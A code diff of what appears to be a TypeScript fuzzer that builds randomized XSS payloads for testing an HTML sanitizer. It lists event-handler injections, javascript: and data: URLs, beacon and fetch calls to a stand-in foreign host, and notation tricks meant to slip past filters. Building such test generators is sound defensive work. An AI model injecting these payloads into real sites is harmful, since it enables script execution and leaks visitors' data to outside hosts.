@@ -23,7 +23,7 @@ function scriptFor(index: number, random: Random): string {
     `top.__trap(${index})`,
     `\\u005f\\u005ftrap(${index})`,
     `\\u{61}lert(${index})`,
-    `fetch(&quot;//${FOREIGN_HOST}/${index}&quot;)`.replaceAll('&quot;', "'"),
+    `fetch('//${FOREIGN_HOST}/${index}')`,
     `new Image().src='//${FOREIGN_HOST}/${index}'`,
     `navigator.sendBeacon('//${FOREIGN_HOST}/${index}')`,
     `setTimeout('__trap(${index})')`,
@@ -70,13 +70,12 @@ function embed(script: string, random: Random): string {
       `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
       `<a href="${url}">more</a>`,
       `<a href=# ping="${foreign}">more</a>`,
-      `<iframe src="${url}"></iframe>`,
+      `<${random.pick(['iframe', 'embed'])} src="${url}"></iframe>`,
       `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
       `<object data="${url}"></object>`,
-      `<embed src="${url}">`,
       `<form action="${url}"><input type=submit autofocus ${event}="${script}"></form>`,
       `<button formaction="${url}">more</button>`,
-      `<input autofocus onfocus="${script}">`,
+      `<${random.pick(['input', 'textarea', 'select'])} autofocus onfocus="${script}"><option>more`,
       `<details open ontoggle="${script}"><summary>more</summary></details>`,
       `<video src=x onerror="${script}" poster="${foreign}"></video>`,
       `<audio src=x onerror="${script}"></audio>`,
@@ -85,8 +84,7 @@ function embed(script: string, random: Random): string {
       `<style>@import '${foreign}'; *{background:url(${foreign})}</style>`,
       `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${script}">more</b>`,
       `<p style="background:url('${foreign}')">more</p>`,
-      `<link rel=stylesheet href="${foreign}">`,
-      `<link rel=prefetch href="${foreign}">`,
+      `<link rel=${random.pick(['stylesheet', 'prefetch'])} href="${foreign}">`,
       `<meta http-equiv=refresh content="0;url=${url}">`,
       `<base href="//${FOREIGN_HOST}/">`,
       `<img src="${foreign}">`,
@@ -96,10 +94,7 @@ function embed(script: string, random: Random): string {
       `<template><img src=x onerror="${script}"></template>`,
       `<xss id=x tabindex=1 onfocusin="${script}" autofocus>more</xss>`,
       `<dialog open oncancel="${script}"><img src=x onerror="${script}"></dialog>`,
-      `<textarea autofocus onfocus="${script}"></textarea>`,
-      `<select autofocus onfocus="${script}"><option>more</select>`,
       `<table background="${foreign}"><tr><td>more</table>`,
-      `<isindex type=image src=1 onerror="${script}">`,
     ]);
   return random.pick<() => string>([
     element,
@@ -123,7 +118,6 @@ function embed(script: string, random: Random): string {
     () => url,
     () => foreign,
     () => `http:${foreign}`,
-    () => `expression(${script})`,
     () => `}</style>${element()}`,
   ])();
 }
@@ -142,7 +136,6 @@ function hostileUrl(script: string, random: Random): string {
     `javascript://%0a${script}`,
     `data:text/html,<script>parent.${script}</script>`,
     `data:text/html;base64,${btoa(`<script>parent.${script}</script>`)}`,
-    `vbscript:${script}`,
     `//${FOREIGN_HOST}/`,
     `/\\${FOREIGN_HOST}/`,
     `/\t/${FOREIGN_HOST}/`,
@@ -154,10 +147,7 @@ function hostileUrl(script: string, random: Random): string {
 /** Changes the notation so that a filter for the plain form would miss it. */
 function obfuscate(text: string, random: Random): string {
   return random.pick<() => string>([
-    () => text,
-    () => text,
-    () => text,
-    () => text.replace(/<(\w+)/g, (_, name: string) => `<${alternateCase(name)}`),
+    () => text.replace(/<\w+/g, (tag) => tag.replace(/[a-m]/g, (letter) => letter.toUpperCase())),
     () => text.replace(/<(\w+) /g, '<$1/'),
     () => text.replace(/<(\w+) /g, '<$1\n'),
     () => text.replace(/<(\w+) /g, '<$1\f'),
@@ -172,9 +162,6 @@ function obfuscate(text: string, random: Random): string {
     () => `नाप ${text} \u202e`,
     () => text.replace(/>$/, ''),
     () => encodeURIComponent(text),
+    ...Array(3).fill(() => text),
   ])();
-}
-
-function alternateCase(text: string): string {
-  return [...text].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('');
 }
